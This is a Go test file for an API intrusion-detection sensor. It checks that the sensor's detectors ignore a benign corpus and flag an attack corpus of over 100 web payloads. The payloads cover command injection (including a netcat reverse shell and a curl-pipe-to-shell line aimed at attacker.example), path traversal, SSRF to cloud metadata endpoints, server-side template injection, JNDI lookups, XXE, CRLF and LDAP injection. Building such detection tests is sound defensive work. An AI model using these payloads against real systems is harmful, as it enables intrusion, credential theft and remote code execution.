@@ -1,0 +1,459 @@
+package tier1
+
+import (
+	"encoding/base64"
+	"fmt"
+	"net/netip"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/apisensor/sensor/decoders"
+	"github.com/apisensor/sensor/pipeline/alert"
+	"github.com/apisensor/sensor/pipeline/detect"
+	"github.com/apisensor/sensor/sensor"
+)
+
+// param builds a parameter the way the decoders do: Decoded is the value
+// after repeated URL-decoding ('+' as a space only in query and form).
+func param(loc decoders.Location, name, raw string) decoders.Param {
+	p := decoders.Param{Loc: loc, Name: name, Value: raw}
+	v := raw
+	for range 4 {
+		var d string
+		var err error
+		if loc == decoders.LocQuery || loc == decoders.LocForm {
+			d, err = url.QueryUnescape(v)
+		} else {
+			d, err = url.PathUnescape(v)
+		}
+		if err != nil || d == v {
+			break
+		}
+		v = d
+		p.Decodes++
+	}
+	if p.Decodes > 0 {
+		p.Decoded = v
+	}
+	return p
+}
+
+func exchange(params ...decoders.Param) *decoders.Exchange {
+	return &decoders.Exchange{
+		Conn: &sensor.ConnMeta{
+			ID: 1, Source: "test.pcap",
+			Key: sensor.FlowKey{
+				SrcIP: netip.MustParseAddr("192.0.2.1"), DstIP: netip.MustParseAddr("192.0.2.2"),
+				SrcPort: 40000, DstPort: 8080, Proto: 6,
+			},
+		},
+		Proto: "http/1.1",
+		Request: &decoders.Message{
+			Start: time.Unix(1700000000, 0), Method: "POST", URI: "/api/v1/items", Path: "/api/v1/items",
+			Version: "HTTP/1.1", Headers: []decoders.Header{{Name: "Host", Value: "api.example"}},
+		},
+		Params: params,
+	}
+}
+
+func allDetectors(t testing.TB) []detect.Detector {
+	t.Helper()
+	ds, err := detect.New(Names(), detect.DefaultConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return ds
+}
+
+func inspectAll(ds []detect.Detector, x *decoders.Exchange) []*alert.Alert {
+	var out []*alert.Alert
+	for _, d := range ds {
+		out = d.Inspect(x, out)
+	}
+	return out
+}
+
+func describe(as []*alert.Alert) string {
+	var b strings.Builder
+	for _, a := range as {
+		fmt.Fprintf(&b, "\n  %s/%s %q", a.Detector, a.RuleId, a.Summary)
+		for _, e := range a.Evidence {
+			fmt.Fprintf(&b, " [%s %s %q: %s]", e.Location, e.Name, e.Value, e.Matched)
+		}
+	}
+	return b.String()
+}
+
+type corpusEntry struct {
+	loc         decoders.Location
+	name, value string
+}
+
+const (
+	lQ = decoders.LocQuery
+	lP = decoders.LocPath
+	lJ = decoders.LocJSON
+	lF = decoders.LocForm
+	lH = decoders.LocHeader
+	lC = decoders.LocCookie
+	lX = decoders.LocXML
+	lM = decoders.LocMultipart
+	lB = decoders.LocBody
+)
+
+// benign holds values real API traffic carries that look like payloads to a
+// careless matcher.
+var benign = []corpusEntry{
+	{lJ, "user.name", "O'Brien"},
+	{lJ, "user.name", "D'Angelo-Smith"},
+	{lQ, "q", "select the best laptop"},
+	{lQ, "q", "drop shipping union rates"},
+	{lQ, "q", "rock & roll"},
+	{lQ, "q", "Tom & Jerry | Cartoon Network"},
+	{lQ, "q", "AT&T; Verizon; T-Mobile"},
+	{lQ, "q", "cats; dogs; birds"},
+	{lQ, "q", "my pets: dog; cat"},
+	{lJ, "review", "<p>Great product!</p><br/>Would <b>buy</b> again &amp; again"},
+	{lJ, "review", "5 stars &#x2B50; love it &lt;3"},
+	{lJ, "comment", "I'd say it's 50% better; don't you think?"},
+	{lJ, "snippet", "SELECT id, name FROM users WHERE id = $1"},
+	{lJ, "code", "for (let i = 0; i < n; i++) { sum += a[i]; }"},
+	{lJ, "code", "import x from '../lib/util';"},
+	{lJ, "code", "const url = `${base}/items/${id}`;"},
+	{lJ, "script", "npm ci && npm test"},
+	{lJ, "script", "make build && curl -fsS https://example.com/hook"},
+	{lJ, "script", "#!/bin/bash\nset -euo pipefail\ncurl -s https://api.github.com | jq .\n"},
+	{lJ, "message", "Run `ls -la` in the project folder, then `cat README.md`."},
+	{lJ, "message", "Please check the file at ../docs/setup.md"},
+	{lJ, "message", "Line one\nLine two\nTo: be continued"},
+	{lJ, "message", "Hi team,\n\nFrom: Bob\nTo: Alice\nSubject: lunch\n\nSee you!"},
+	{lJ, "notes", "Use `$(pwd)` carefully in scripts"},
+	{lJ, "template", "Hello {{name}}, your order {{order.id}} has shipped"},
+	{lJ, "template", "Dear ${customer.firstName}, welcome!"},
+	{lJ, "template", "#{user.id} logged in"},
+	{lJ, "template", "<%= user.name %> joined"},
+	{lJ, "template", "Total: {{ price * quantity }}"},
+	{lJ, "config", "${HOME}/.config/app"},
+	{lJ, "config", "${env:DB_HOST}"},
+	{lJ, "path", "C:\\Users\\bob\\Documents\\report.docx"},
+	{lJ, "path", "C:\\Program Files\\App\\app.exe"},
+	{lJ, "path", "/var/lib/app/data.db"},
+	{lJ, "path", "/home/alice/projects/api/main.go"},
+	{lJ, "avatar", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="},
+	{lJ, "image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"},
+	{lH, "authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
+	{lJ, "token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"},
+	{lJ, "id", "123e4567-e89b-12d3-a456-426614174000"},
+	{lP, "2", "123e4567-e89b-12d3-a456-426614174000"},
+	{lQ, "url", "https://www.example.com/products?id=42&ref=home"},
+	{lJ, "webhook", "https://hooks.slack.com/services/T000/B000/XXXX"},
+	{lJ, "callback", "https://api.partner.com/v1/callback"},
+	{lQ, "redirect", "/dashboard?tab=settings"},
+	{lJ, "host", "db.internal.svc.cluster.local"},
+	{lJ, "host", "10.0.3.17"},
+	{lJ, "url", "http://192.168.1.10:8080/health"},
+	{lJ, "endpoint", "http://payments.default.svc:9000/charge"},
+	{lJ, "ip", "203.0.113.7"},
+	{lJ, "source", "0"},
+	{lJ, "page", "2"},
+	{lJ, "count", "2130706433"},
+	{lJ, "address", "1 Main St, Springfield"},
+	{lJ, "filter.status.eq", "active"},
+	{lJ, "price", "$19.99"},
+	{lJ, "price.currency", "USD"},
+	{lQ, "sort", "-created_at"},
+	{lQ, "filter[status]", "open"},
+	{lQ, "fields", "id,name,email"},
+	{lQ, "range", "bytes=0-1023"},
+	{lQ, "expr", "(a+b)*(c-d)"},
+	{lQ, "q", "f(x)(y)"},
+	{lJ, "formula", "=SUM(A1:A10)"},
+	{lJ, "regex", "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
+	{lJ, "email", "alice@example.com"},
+	{lJ, "to", "bob@example.com, carol@example.com"},
+	{lJ, "subject", "Re: your order #1234"},
+	{lF, "email", "first.last+tag@example.co.uk"},
+	{lJ, "description", "Use the * wildcard (any) to match everything"},
+	{lJ, "query", "query GetUser($id: ID!) { user(id: $id) { id name email __typename } }"},
+	{lJ, "query", "{ viewer { login repositories(first: 10) { nodes { name stargazers { totalCount } } } } }"},
+	{lJ, "query", "mutation { addStar(input: {starrableId: \"x\"}) { starrable { id } } }"},
+	{lJ, "query", "query { a: user(id: 1) { name } b: user(id: 2) { name } }"},
+	{lH, "user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
+	{lH, "user-agent", "curl/8.5.0"},
+	{lH, "user-agent", "python-requests/2.31.0"},
+	{lH, "referer", "http://localhost:3000/login"},
+	{lH, "accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
+	{lH, "x-forwarded-for", "203.0.113.7, 10.0.0.1"},
+	{lH, "cookie", "session=abc123; theme=dark"},
+	{lC, "prefs", "eyJ0aGVtZSI6ImRhcmsiLCJsYW5nIjoiZW4ifQ=="},
+	{lC, "session", "s%3AQm9iIGlzIGhlcmU.abcdef"},
+	{lJ, "bio", "Software engineer | Cat person | Coffee && code"},
+	{lJ, "bio", "I <3 Go; Rust; and Zig"},
+	{lJ, "title", "Why ../ is bad in URLs"},
+	{lJ, "markdown", "# Title\n\n```sh\ncurl https://example.com\n```\n"},
+	{lJ, "sql", "UPDATE users SET name = 'x' WHERE id = 1; -- comment"},
+	{lJ, "html", "<div class=\"a\">Hello &nbsp; world</div>"},
+	{lX, "order.note", "Leave at door; ring bell"},
+	{lX, "!DOCTYPE", "DOCTYPE html"},
+	{lX, "!DOCTYPE", "DOCTYPE note [<!ENTITY writer \"Donald Duck.\">]"},
+	{lM, "file", "%PDF-1.4 binary-ish content here"},
+	{lB, "", "plain text body with a URL https://example.org/a?b=c"},
+	{lQ, "date", "2024-05-06T10:00:00+02:00"},
+	{lQ, "tz", "Europe/Paris"},
+	{lQ, "path", "docs/guide/intro.md"},
+	{lQ, "file", "report-2024.pdf"},
+	{lQ, "next", "https://app.example.com/home"},
+	{lJ, "version", "1.2.3-rc.1+build.5"},
+	{lJ, "hash", "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
+	{lJ, "key", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host"},
+	{lJ, "ldapFilter", "(&(objectClass=user)(mail=alice@example.com))"},
+	{lJ, "command", "git commit -m \"fix: handle nil\""},
+	{lJ, "dockerfile", "RUN apt-get update && apt-get install -y curl"},
+	{lJ, "json", "{\"name\":\"x\",\"tags\":[\"a\",\"b\"]}"},
+	{lJ, "mongoQuery", "status:active"},
+	{lQ, "callback", "jQuery123_456"},
+	{lJ, "math", "7*7=49"},
+	{lJ, "text", "Price is ${{amount}} today"},
+	{lJ, "phone", "+1 (555) 010-9999"},
+	{lJ, "encoded", "SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8="},
+	{lJ, "encoded", "cGxlYXNlIHNlbmQgdGhlIHJlcG9ydCB0b2RheQ=="},
+	{lH, "x-custom-trace", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
+	{lQ, "ua", "Mozilla/5.0 (X11; Linux x86_64)"},
+}
+
+func TestBenignCorpus(t *testing.T) {
+	if len(benign) < 100 {
+		t.Fatalf("benign corpus has %d values, want at least 100", len(benign))
+	}
+	ds := allDetectors(t)
+	fp := 0
+	for _, e := range benign {
+		for _, raw := range []string{e.value, encodeURL(e.value)} {
+			x := exchange(param(e.loc, e.name, raw))
+			if as := inspectAll(ds, x); len(as) > 0 {
+				fp++
+				t.Errorf("benign %s %s %q raised:%s", e.loc, e.name, raw, describe(as))
+			}
+		}
+	}
+	t.Logf("benign corpus: %d values x 2 encodings, %d false alerts", len(benign), fp)
+}
+
+func encodeURL(s string) string { return url.PathEscape(s) }
+
+// Encodings an attack entry is also tried in.
+const (
+	encURL     = 1 << iota // URL-encoded once
+	encDouble              // twice
+	encHTML                // HTML numeric entities for punctuation
+	encUnicode             // \u00XX escapes for punctuation
+	encBase64              // base64 of the whole value
+	encAll     = encURL | encDouble | encHTML | encUnicode
+)
+
+type attackEntry struct {
+	loc         decoders.Location
+	name, value string
+	rule        string
+	enc         int
+}
+
+var attacks = []attackEntry{
+	// OS command injection.
+	{lQ, "host", "127.0.0.1;id", "cmdi", encAll | encBase64},
+	{lQ, "host", "127.0.0.1; cat /etc/passwd", "cmdi", encAll},
+	{lQ, "file", "x | cat /etc/passwd", "cmdi", encAll},
+	{lJ, "name", "$(whoami)", "cmdi", encAll},
+	{lJ, "name", "`id`", "cmdi", encAll},
+	{lQ, "ip", "8.8.8.8 && whoami", "cmdi", encAll},
+	{lQ, "ip", "8.8.8.8\nid", "cmdi", encURL | encDouble},
+	{lF, "addr", "localhost;ls -la", "cmdi", encAll},
+	{lQ, "q", "x;cat${IFS}/etc/passwd", "cmdi", encURL | encDouble},
+	{lQ, "q", "a|nc -e /bin/sh 10.0.0.1 4444", "cmdi", encAll},
+	{lJ, "file", "a.txt;w'h'o'am'i", "cmdi", encURL},
+	{lQ, "host", "x||ping -c 10 127.0.0.1", "cmdi", encAll},
+	{lQ, "t", "1;sleep 5", "cmdi", encAll},
+	{lH, "user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "cmdi", 0},
+	{lJ, "path", "report.pdf & type c:\\windows\\win.ini", "cmdi", encAll},
+	{lQ, "cmd", "foo$(curl http://attacker.example/x.sh|sh)", "cmdi", encAll},
+	{lP, "1", "x;uname -a", "cmdi", encURL | encDouble},
+	// Path traversal and LFI.
+	{lQ, "file", "../../../../etc/passwd", "path-traversal", encAll},
+	{lQ, "file", "..\\..\\..\\windows\\win.ini", "path-traversal", encAll},
+	{lQ, "file", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", "path-traversal", 0},
+	{lQ, "file", "....//....//....//etc/passwd", "path-traversal", encAll},
+	{lP, "2", "..%2f..%2f..%2fetc%2fpasswd", "path-traversal", encURL},
+	{lQ, "page", "..;/..;/admin", "path-traversal", encAll},
+	{lJ, "template", "../../../../../../proc/self/environ", "path-traversal", encAll},
+	{lQ, "file", "/etc/passwd", "lfi-sensitive-file", encAll},
+	{lQ, "doc", "C:\\Windows\\win.ini", "lfi-sensitive-file", encAll},
+	{lQ, "f", "/proc/self/environ", "lfi-sensitive-file", encAll},
+	{lJ, "key", "/home/app/.ssh/id_rsa", "lfi-sensitive-file", encAll},
+	{lQ, "conf", "WEB-INF/web.xml", "lfi-sensitive-file", encAll},
+	{lQ, "page", "php://filter/convert.base64-encode/resource=index.php", "lfi-wrapper", encAll},
+	{lQ, "page", "expect://id", "lfi-wrapper", encAll},
+	{lQ, "page", "phar://uploads/x.jpg/shell", "lfi-wrapper", encAll},
+	// SSRF.
+	{lQ, "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf-metadata", encAll | encBase64},
+	{lJ, "webhook", "http://[fd00:ec2::254]/latest/meta-data/", "ssrf-metadata", encAll},
+	{lJ, "url", "http://metadata.google.internal/computeMetadata/v1/", "ssrf-metadata", encAll},
+	{lQ, "url", "http://127.0.0.1:6379/", "ssrf-loopback", encAll},
+	{lQ, "url", "http://localhost/admin", "ssrf-loopback", encAll},
+	{lQ, "url", "http://[::1]:8080/", "ssrf-loopback", encAll},
+	{lQ, "url", "http://0.0.0.0:2375/containers/json", "ssrf-loopback", encAll},
+	{lQ, "url", "http://user@127.0.0.1/", "ssrf-loopback", encAll},
+	{lQ, "url", "http://2130706433/", "ssrf-encoded-ip", encAll},
+	{lQ, "url", "http://0x7f000001/", "ssrf-encoded-ip", encAll},
+	{lQ, "url", "http://0177.0.0.1/", "ssrf-encoded-ip", encAll},
+	{lQ, "url", "http://127.1/", "ssrf-encoded-ip", encAll},
+	{lQ, "url", "http://2852039166/latest/meta-data/", "ssrf-encoded-ip", encAll},
+	{lJ, "host", "0x7f.0.0.1", "ssrf-encoded-ip", encAll},
+	{lJ, "host", "localhost", "ssrf-loopback", encAll},
+	{lJ, "target", "169.254.169.254", "ssrf-metadata", encAll},
+	{lQ, "url", "http://169.254.10.1/", "ssrf-link-local", encAll},
+	{lQ, "url", "http://127.0.0.1.nip.io/", "ssrf-loopback", encAll},
+	{lQ, "url", "gopher://127.0.0.1:6379/_INFO", "ssrf-scheme", encAll},
+	{lQ, "url", "dict://internal:11211/stat", "ssrf-scheme", encAll},
+	{lQ, "url", "file:///etc/hosts", "ssrf-scheme", encAll},
+	{lJ, "feed", "jar:http://attacker.example/x.jar!/", "ssrf-scheme", encAll},
+	{lQ, "url", "http://[::ffff:127.0.0.1]/", "ssrf-loopback", encAll},
+	// NoSQL.
+	{lQ, "user[$ne]", "x", "nosql-operator", 0},
+	{lQ, "user%5B%24ne%5D", "x", "nosql-operator", 0},
+	{lJ, "password.$ne", "null", "nosql-operator", 0},
+	{lJ, "age.$gt", "", "nosql-operator", 0},
+	{lJ, "user.$regex", ".*", "nosql-operator", 0},
+	{lJ, "$where", "this.password.length > 0", "nosql-js", 0},
+	{lQ, "filter", `{"$where":"sleep(5000)"}`, "nosql-js", encAll},
+	{lQ, "filter", `{"username":{"$ne":null}}`, "nosql-operator", encAll},
+	{lF, "login[$regex]", "^adm", "nosql-operator", 0},
+	{lJ, "q.$expr.$function.body", "function(){return true}", "nosql-operator", 0},
+	// SSTI.
+	{lQ, "name", "{{7*7}}", "ssti", encAll},
+	{lQ, "name", "{{ ''.__class__.__mro__ }}", "ssti", encAll | encBase64},
+	{lQ, "name", "${7*7}", "ssti", encAll},
+	{lQ, "name", "<%= 7*7 %>", "ssti", encAll},
+	{lQ, "name", "#{7*7}", "ssti", encAll},
+	{lJ, "name", "{{config}}", "ssti", encAll},
+	{lJ, "name", "{{config.items()}}", "ssti", encAll},
+	{lJ, "name", "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti", encAll},
+	{lJ, "name", "{{ self.__init__.__globals__.__builtins__ }}", "ssti", encAll},
+	{lQ, "name", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti", encAll},
+	{lQ, "name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "ssti", encAll},
+	{lQ, "name", "{{7*'7'}}", "ssti", encAll},
+	{lJ, "msg", "<%= system('id') %>", "ssti", encAll},
+	{lQ, "name", "*{T(java.lang.Runtime).getRuntime().exec('id')}", "ssti", encAll},
+	// JNDI.
+	{lH, "user-agent", "${jndi:ldap://attacker.example/a}", "jndi-lookup", 0},
+	{lH, "x-api-version", "${jndi:rmi://attacker.example/a}", "jndi-lookup", 0},
+	{lH, "accept", "${jndi:dns://attacker.example/a}", "jndi-lookup", 0},
+	{lQ, "q", "${${lower:j}ndi:ldap://attacker.example/a}", "jndi-lookup", encAll},
+	{lQ, "q", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}", "jndi-lookup", encAll},
+	{lQ, "q", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}", "jndi-lookup", encAll},
+	{lJ, "name", "${${upper:j}${lower:N}di:ldaps://x/a}", "jndi-lookup", encAll | encBase64},
+	{lJ, "name", "${${date:'j'}ndi:ldap://x/a}", "jndi-lookup", encAll},
+	{lC, "session", "${jndi:ldap://x/a}", "jndi-lookup", encURL},
+	// XXE.
+	{lX, "!DOCTYPE", `DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]`, "xxe-external-entity", 0},
+	{lX, "!DOCTYPE", `DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]`, "xxe-external-entity", 0},
+	{lX, "!DOCTYPE", `DOCTYPE foo [<!ENTITY xxe PUBLIC "-//X//EN" "http://attacker.example/x">]`, "xxe-external-entity", 0},
+	{lB, "", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>`, "xxe-external-entity", 0},
+	{lX, "!DOCTYPE", `DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;"><!ENTITY lol3 "&lol2;"><!ENTITY lol4 "&lol3;"><!ENTITY lol5 "&lol4;"><!ENTITY lol6 "&lol5;"><!ENTITY lol7 "&lol6;">]`, "xml-entity-expansion", 0},
+	// CRLF.
+	{lQ, "next", "/home%0d%0aSet-Cookie:%20admin=1", "crlf-injection", 0},
+	{lQ, "lang", "en%0aLocation: https://attacker.example/", "crlf-injection", 0},
+	{lP, "1", "x%0d%0aX-Injected:%20yes", "crlf-injection", 0},
+	{lQ, "r", "x%250d%250aSet-Cookie:a=b", "crlf-injection", 0},
+	{lQ, "r", "x%E5%98%8A%E5%98%8DSet-Cookie:a=b", "crlf-injection", 0},
+	{lQ, "r", "x%0d%0a%0d%0a<script>alert(1)</script>", "crlf-injection", 0},
+	// Mail header injection.
+	{lF, "email", "victim@example.com%0aBcc: all@example.com", "mail-header-injection", 0},
+	{lJ, "from", "a@example.com\nCc: spam@example.com", "mail-header-injection", encURL},
+	{lJ, "contact.email", "x@example.com\r\nSubject: free money", "mail-header-injection", encURL},
+	{lQ, "subject", "Hello%0d%0aBcc:list@example.com", "mail-header-injection", 0},
+	// LDAP.
+	{lF, "user", "*)(uid=*))(|(uid=*", "ldap-injection", encAll},
+	{lF, "user", "admin)(|(password=*))", "ldap-injection", encAll},
+	{lQ, "name", "*)(&", "ldap-injection", encAll},
+	{lJ, "login", "admin)(!(objectClass=void))", "ldap-injection", encAll},
+	{lQ, "cn", "x*)(objectClass=*", "ldap-injection", encAll},
+	// GraphQL.
+	{lJ, "query", "query IntrospectionQuery { __schema { types { name fields { name } } } }", "graphql-introspection", 0},
+	{lJ, "query", "{ __type(name: \"User\") { fields { name } } }", "graphql-introspection", 0},
+	{lJ, "query", "{ a { b { c { d { e { f { g { h { i { j { k { l } } } } } } } } } } } }", "graphql-depth", 0},
+	{lJ, "query", "query {" + aliasQuery(25) + "}", "graphql-aliases", 0},
+}
+
+func aliasQuery(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, " a%d: user(id: %d) { name }", i, i)
+	}
+	return b.String()
+}
+
+// encodings returns the value in each encoding of enc, keyed by a label.
+func encodings(loc decoders.Location, v string, enc int) [][2]string {
+	out := [][2]string{{"plain", v}}
+	if enc&encURL != 0 {
+		out = append(out, [2]string{"url", url.PathEscape(v)})
+	}
+	if enc&encDouble != 0 {
+		out = append(out, [2]string{"url x2", url.PathEscape(url.PathEscape(v))})
+	}
+	if enc&encHTML != 0 && loc != lQ && loc != lP {
+		out = append(out, [2]string{"html", escapePunct(v, "&#x%02x;")})
+	}
+	if enc&encUnicode != 0 && loc != lQ && loc != lP {
+		out = append(out, [2]string{"unicode", escapePunct(v, `\u%04x`)})
+	}
+	if enc&encBase64 != 0 {
+		out = append(out, [2]string{"base64", base64.StdEncoding.EncodeToString([]byte(v))})
+	}
+	return out
+}
+
+func escapePunct(s, format string) string {
+	var b strings.Builder
+	for _, r := range s {
+		if r < 0x80 && !('a' <= r && r <= 'z' || 'A' <= r && r <= 'Z' || '0' <= r && r <= '9' || r == ' ') {
+			fmt.Fprintf(&b, format, r)
+			continue
+		}
+		b.WriteRune(r)
+	}
+	return b.String()
+}
+
+func TestAttackCorpus(t *testing.T) {
+	ds := allDetectors(t)
+	payloads, cases, missed := 0, 0, 0
+	for _, e := range attacks {
+		payloads++
+		for _, ev := range encodings(e.loc, e.value, e.enc) {
+			cases++
+			x := exchange(param(e.loc, e.name, ev[1]))
+			as := inspectAll(ds, x)
+			ok := slices.ContainsFunc(as, func(a *alert.Alert) bool { return a.RuleId == e.rule })
+			if !ok {
+				missed++
+				t.Errorf("attack %s %s %q (%s) did not raise %s; got:%s", e.loc, e.name, ev[1], ev[0], e.rule, describe(as))
+			}
+			for _, a := range as {
+				if _, err := alert.MarshalJSON(a); err != nil {
+					t.Errorf("alert does not encode: %v", err)
+				}
+				if len(a.Evidence) == 0 || a.Summary == "" || len(a.Owasp) == 0 {
+					t.Errorf("alert %s lacks evidence, summary or OWASP mapping", a.RuleId)
+				}
+			}
+		}
+	}
+	if payloads < 100 {
+		t.Errorf("attack corpus has %d payloads, want at least 100", payloads)
+	}
+	t.Logf("attack corpus: %d payloads, %d encoded cases, %d missed", payloads, cases, missed)
+}
